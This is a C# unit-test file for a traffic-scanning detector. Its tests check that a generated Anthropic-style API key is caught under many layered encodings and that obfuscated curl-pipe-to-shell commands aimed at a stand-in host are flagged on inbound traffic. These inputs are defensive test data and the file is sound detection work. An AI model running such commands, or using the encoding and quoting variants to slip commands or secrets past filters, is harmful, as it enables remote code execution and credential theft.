using TrafficGuardian.Detection.Findings;
using TrafficGuardian.Detection.Judging;

namespace TrafficGuardian.Detection.Tests.Scanning;

public sealed class ViewTests
{
    private static readonly string Key = TestRules.Expand("sk-ant-api03-{b64url:60}AA");
    private static readonly string Tail = Key[1..];

    public static TheoryData<string> Wrapped => new()
    {
        Key,
        $"{{\"a\":\"x\\n{Key}\\n\"}}",
        $"{{\"a\":\"\\u0073{Tail}\"}}",
        $"{{\"a\":\"{{\\\"b\\\":\\\"\\\\u0073{Tail}\\\"}}\"}}",
        $"\\\\\\\\u0073{Tail}",
        $"q=%73{Tail}&b=1",
        $"q=%2573{Tail}",
        $"q=%252573{Tail}",
        $"q=a+{Key}+b",
        $"<a href=\"&#115;{Tail}\">",
        $"&amp;#115;{Tail}",
        $"%5Cu0073{Tail}",
        "\\u002573" + Tail,
        $"%20{Key}%20",
    };

    [Theory]
    [MemberData(nameof(Wrapped))]
    public void A_secret_is_found_once_however_it_is_wrapped(string text) =>
        Assert.Equal(["ai_api_key/anthropic"], Harness.Names(Harness.Body(text)));

    [Fact]
    public void Five_levels_are_beyond_the_depth() =>
        Assert.Empty(Harness.Body($"%2525252573{Tail}"));

    [Theory]
    [InlineData("c'u'rl https://x.invalid | sh")]
    [InlineData("CURL\thttps://x.invalid  |  bash")]
    [InlineData("{\"cmd\":\"c\\\"u\\\"rl https://x.invalid | sh\"}")]
    [InlineData("curl https:\\/\\/x.invalid \\u007c sh")]
    [InlineData("curl&#32;https://x.invalid&nbsp;&#124; sh")]
    [InlineData("curl${IFS}https://x.invalid|sh")]
    public void A_command_is_found_in_the_form_a_shell_would_see(string text)
    {
        Assert.Equal(["pipe_to_shell/curl"], Harness.Names(Harness.Body(text, Direction.Inbound)));
        Assert.Empty(Harness.Body(text, Direction.Outbound));
    }

    [Fact]
    public void A_known_value_is_found_in_any_view()
    {
        var detector = Harness.With(new KnownValue("DB", "p\u00e4ss \"word\"!"u8.ToArray()));
        Assert.Equal(["known_value/db"], Harness.Names(Harness.Body("a p\u00e4ss \"word\"! b", detector: detector)));
        Assert.Equal(["known_value/db"], Harness.Names(Harness.Body("{\"x\":\"p\\u00e4ss \\\"word\\\"!\"}", detector: detector)));
        Assert.Equal(["known_value/db"], Harness.Names(Harness.Body("v=p%C3%A4ss+%22word%22%21", detector: detector)));
    }

    [Fact]
    public void A_boundary_holds_against_glued_letters_in_every_view()
    {
        Assert.Empty(Harness.Body($"letters{Key}"));
        Assert.Empty(Harness.Body($"letter%78{Key}"));
        Assert.Empty(Harness.Body($"/{Key}"));
        Assert.Single(Harness.Body($"={Key}"));
    }

    [Fact]
    public void A_segment_that_begins_inside_a_text_judges_no_boundary_at_its_edge()
    {
        for (var gap = 1640; gap < 1690; gap++)
        {
            var text = "letters" + Key + new string(' ', gap - Key.Length) + "\\n";
            Assert.Empty(Harness.Body(text));
        }
    }

    [Fact]
    public void Two_messages_of_one_scan_do_not_mix()
    {
        var scan = new MessageScan();
        for (var i = 0; i < 3; i++)
        {
            scan.Begin(Harness.Default, Harness.Context(Direction.Outbound), Harness.Now);
            scan.Body(System.Text.Encoding.UTF8.GetBytes(Key[..30]), last: false, Harness.Now);
        }

        scan.Begin(Harness.Default, Harness.Context(Direction.Outbound), Harness.Now);
        scan.Body(System.Text.Encoding.UTF8.GetBytes(Key[30..]), last: true, Harness.Now);
        Assert.Empty(scan.Found);
    }
}
